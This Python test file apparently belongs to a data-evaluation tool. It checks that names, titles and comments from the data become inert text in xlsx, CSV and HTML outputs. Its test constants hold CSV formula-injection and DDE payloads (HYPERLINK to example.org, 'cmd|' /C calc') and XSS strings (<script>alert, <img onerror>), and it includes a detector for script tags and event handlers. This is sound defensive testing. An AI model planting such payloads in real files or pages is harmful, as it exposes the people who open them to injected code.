"""Hostile text in the data (issue 12): never a formula in a spreadsheet, never a script in a page.

Names, titles, partners and comments come from the data; any of them may start with ``=``
(a spreadsheet formula) or hold HTML. Every output is checked: xlsx, csv, HTML reports,
the portal, and the problems CSV of ``iae-eval validate``.
"""

from __future__ import annotations

import csv
import io
import shutil
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from iae_eval.cells import FORMULA_TRIGGERS, csv_cell
from iae_eval.commands.run import run_command
from iae_eval.data.validate import write_problems_csv
from iae_eval.errors import Problem, problems_frame
from iae_eval.indicators import exports

ROOT = Path(__file__).resolve().parents[1]
SAMPLE = ROOT / "data" / "sample"

FORMULA_NAME = '=HYPERLINK("http://example.org/?x="&A1,"clic")'
SCRIPT_NAME = "<script>alert('nom')</script>"
IMG_NAME = "<img src=x onerror=alert(1)>"
HOSTILE_TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_PARTNER = "+33 4 92 00 00 00 =1+1"
HOSTILE_COMMENT = "-2+3+cmd|' /C calc'!A0"
SCRIPT_COMMENT = "<script>document.title='pwned'</script>"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 4", "'+33 4"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Chantier = nature", "Chantier = nature"),  # only the first character counts
        ("< 5", "< 5"),  # the suppression marker stays as it is
        ("", ""),
        (-3, -3),  # numbers stay numbers
        (-0.25, -0.25),
        (None, None),
    ],
)
def test_csv_cell_neutralises_only_text_that_starts_like_a_formula(value, expected):
    assert csv_cell(value) == expected


def _table(label: str) -> pd.DataFrame:
    return pd.DataFrame(
        {
            "Année": [2012, 2012],
            "Périmètre": ["Département", "Structure"],
            "Code": ["", "=S1"],
            "Libellé": ["Hautes-Alpes", label],
            "Territoire": ["", label],
            "Types": ["", "ACI"],
            "participants": [12, "< 5"],
            "durable_rate": [0.125, None],
            "funding_total": [-1234.5, 10.0],
        }
    ).astype(object)


def test_indicator_csv_neutralises_text_and_keeps_numbers(tmp_path):
    text = exports.csv_text(_table(FORMULA_NAME))
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[2][:6] == ["2012", "Structure", "'=S1", "'" + FORMULA_NAME, "'" + FORMULA_NAME, "ACI"]
    assert rows[1][6:] == ["12", "12,5 %", "-1234,50"]  # a negative amount stays a number
    assert rows[2][6] == "< 5"


def test_indicator_xlsx_has_no_formula_cell(tmp_path):
    path = exports.write_xlsx(
        _table(FORMULA_NAME), tmp_path / "indicators.xlsx", year=2012, min_cell=5, diffusion="comite"
    )
    wb = openpyxl.load_workbook(path)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.data_type for c in cells if c.data_type == "f"] == []
    by_value = {c.value: c for c in cells}
    assert by_value[FORMULA_NAME].data_type == "s"  # kept as the text it is
    assert by_value["=S1"].data_type == "s"
    assert by_value[-1234.5].data_type == "n" and by_value[12].data_type == "n"


def test_problems_csv_neutralises_values_quoted_from_the_data(tmp_path):
    frame = problems_frame([Problem("structures.csv", 3, "name", "=1+1", "duplicate name")])
    target = tmp_path / "problems.csv"
    write_problems_csv(frame, target)
    rows = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8-sig")), delimiter=";"))
    assert rows[1] == ["structures.csv", "3", "name", "'=1+1", "duplicate name", "error"]


def test_indicators_command_csv_neutralises_the_keys():
    from iae_eval.indicators.output import indicators_csv

    frame = pd.DataFrame({"participants": [3]}, index=["=S1"])
    from iae_eval.indicators.compute import INDICATOR_KEYS

    frame = frame.reindex(columns=list(INDICATOR_KEYS))
    line = indicators_csv(frame, 2012, "structure").splitlines()[1]
    assert line.startswith("2012;structure;'=S1;3")


# --- End to end: the real notebooks on a hostile copy of the sample --------------------------------


def hostile_sample(folder: Path) -> Path:
    shutil.copytree(SAMPLE, folder)

    def edit(name: str, change) -> None:
        frame = pd.read_csv(folder / f"{name}.csv", dtype=str, keep_default_na=False)
        change(frame)
        frame.to_csv(folder / f"{name}.csv", index=False)

    def structures(f):
        f.loc[f["structure_id"] == "S01", "name"] = FORMULA_NAME
        f.loc[f["structure_id"] == "S02", "name"] = SCRIPT_NAME
        f.loc[f["structure_id"] == "S03", "name"] = IMG_NAME

    def contracts(f):
        f["title"] = HOSTILE_TITLE

    def operations(f):
        f["partner"] = HOSTILE_PARTNER
        f["title"] = SCRIPT_COMMENT

    def sd(f):
        f["comment"] = HOSTILE_COMMENT

    def plan(f):
        f["comment"] = SCRIPT_COMMENT

    edit("structures", structures)
    edit("contracts", contracts)
    edit("operations", operations)
    edit("sd_assessment", sd)
    edit("action_plan", plan)
    return folder


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in {"script", "iframe", "object", "embed"}:
            self.bad.append(tag)
        for name, value in attrs:
            if name.startswith("on") or (value or "").strip().lower().startswith("javascript:"):
                self.bad.append(f"{tag} {name}={value}")


@pytest.mark.slow
def test_hostile_text_is_data_in_every_output(tmp_path, capsys):
    data = hostile_sample(tmp_path / "data")
    out = tmp_path / "out"
    code = run_command(
        data_dir=data, years=[2012], structures=["S01", "S02", "S03"], out_dir=out, jobs=2, force=False
    )
    captured = capsys.readouterr()
    assert code == 0, captured.out + captured.err

    # spreadsheets: not one formula cell; the names are there, as text
    workbooks = list(out.rglob("*.xlsx"))
    assert workbooks
    for path in workbooks:
        wb = openpyxl.load_workbook(path)
        cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
        assert [c.coordinate for c in cells if c.data_type == "f"] == [], path
        assert FORMULA_NAME in {c.value for c in cells}
    csv_files = list(out.rglob("*.csv"))
    assert csv_files
    for path in csv_files:
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")), delimiter=";"))
        cells = [cell for row in rows for cell in row]
        assert [c for c in cells if c.startswith(FORMULA_TRIGGERS)] == [], path
        if path.name == "indicators.csv":  # the one that names the structures
            assert "'" + FORMULA_NAME in cells

    # HTML reports and the portal: the text shows, escaped; nothing runs
    pages = list(out.rglob("*.html"))
    assert len(pages) == 5  # portal, département, three structures
    for page in pages:
        text = page.read_text(encoding="utf-8")
        parser = _Tags()
        parser.feed(text)
        assert parser.bad == [], (page, parser.bad[:3])
        assert "<script>" not in text and "<img src=x" not in text
    portal = (out / "index.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(&#x27;nom&#x27;)&lt;/script&gt;" in portal
    assert "&lt;img src=x onerror=alert(1)&gt;" in portal
    s02 = (out / "2012/structures/S02.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;" in s02
